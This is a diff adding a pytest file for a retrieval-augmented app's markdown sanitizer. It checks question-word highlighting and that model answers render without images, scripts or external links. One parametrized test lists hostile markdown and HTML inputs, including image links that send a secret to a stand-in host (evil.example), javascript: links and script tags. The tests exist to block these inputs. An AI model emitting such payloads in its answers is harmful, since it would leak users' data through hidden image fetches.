@@ -1,0 +1,74 @@
+"""Text of documents and models on the page: shown, never obeyed."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag.ui import markdown
+
+
+def rendered(text: str) -> str:
+    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+
+
+@given(st.text(alphabet="ab<>&[]()!*_`#$~|:\\-+.1 \n\"'", max_size=60))
+def test_plain_text_becomes_no_markup(text: str) -> None:
+    html = rendered(markdown.plain(text))
+    for element in (
+        "<img",
+        "<a ",
+        "<em",
+        "<strong",
+        "<code",
+        "<h1",
+        "<li",
+        "<table",
+        "<script",
+        "<blockquote",
+    ):
+        assert element not in html
+
+
+def test_the_questions_words_are_marked() -> None:
+    text = "Books may be borrowed for 4 weeks; a booklet too."
+    assert markdown.marked(text, "How long can I borrow books?") == (
+        ":yellow-background[Books] may be :yellow-background[borrowed] for 4 weeks; a "
+        ":yellow-background[booklet] too\\."
+    )
+    assert (
+        markdown.marked("每年享有15天带薪年假。", "年假有多少天？")
+        == "每年享有15天带薪:yellow-background[年假]。"
+    )
+    assert markdown.marked("Nothing [here](x)", "the of") == "Nothing \\[here\\]\\(x\\)"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](http://evil.example/?q=secret)",
+        "![x][1]\n\n[1]: http://evil.example/a.png",
+        "[click](javascript:alert(1))",
+        "<img src=http://evil.example/a.png>",
+        "<script>alert(1)</script>",
+        "[![x](http://evil.example/a.png)](http://evil.example)",
+        "![a\nb](http://evil.example/a.png)",
+        "![](<http://evil.example/a b.png>)",
+        "![x] (http://evil.example/a.png)",
+        "```\nx\n``` ![x](http://evil.example/a.png)",
+        "http://evil.example",
+    ],
+)
+def test_a_models_answer_fetches_and_hides_nothing(hostile: str) -> None:
+    html = rendered(markdown.answer(hostile, [1], "p"))
+    assert "<img" not in html
+    assert "<script" not in html
+    assert 'href="http' not in html
+    assert 'href="javascript' not in html
+
+
+def test_an_answer_keeps_its_form_and_links_its_markers() -> None:
+    text = markdown.answer("**Yes** [1], but not [2].\n\n- costs $5", [1], "passage-7")
+    assert text == "**Yes** [\\[1\\]](#passage-7-1), but not \\[2\\].\n\n- costs \\$5"
+    assert markdown.answer(":red[x]") == "\\:red\\[x\\]"
+    assert markdown.answer("```\na[0] < $x\n```\n[1]") == "```\na[0] < $x\n```\n\\[1\\]"
